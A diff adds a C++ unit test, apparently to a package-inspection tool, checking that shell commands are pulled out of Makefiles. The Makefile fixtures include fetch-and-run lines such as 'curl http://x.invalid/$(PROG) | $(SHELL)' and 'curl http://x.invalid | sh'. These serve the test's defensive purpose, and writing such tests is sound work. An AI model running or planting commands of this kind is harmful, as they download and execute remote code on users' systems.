@@ -124,3 +124,14 @@ TEST(Steps, TruncatedAtEveryByteNeverCrashes) {
     (void)read(json.substr(0, n), "package/binding.gyp", npm);
   }
 }
+
+TEST(Steps, CommandsOfMakefilesAreHandedOn) {
+  const auto r = read("PROG = grid\nX = $(shell cat data | sh)\nall: $(PROG)\n\t@curl http://x.invalid/$(PROG) | $(SHELL)\n\t-echo $$HOME $@\n", "Makefile", {});
+  const auto* child = r.sink.child_named("make:commands");
+  ASSERT_NE(child, nullptr);
+  EXPECT_EQ(base::text_of(child->bytes), "PROG='grid'\ncat data | sh\ncurl http://x.invalid/${PROG} | ${SHELL}\necho $HOME ${MAKE_FILE}\n");
+  EXPECT_EQ(examine::hooks::makefile_commands("A := b\nx: y\n"), "");
+  EXPECT_EQ(examine::hooks::makefile_commands("V != date | sh\n"), "date | sh\n");
+  EXPECT_EQ(examine::hooks::makefile_commands("V = $(shell a\n"), "");
+  EXPECT_TRUE(read("all:\n\tcurl http://x.invalid | sh\n", "./usr/share/x/Makefile", {{"p.deb", "deb", Origin::product}, {"data.tar", "tar", Origin::member}}).sink.children.empty());
+}
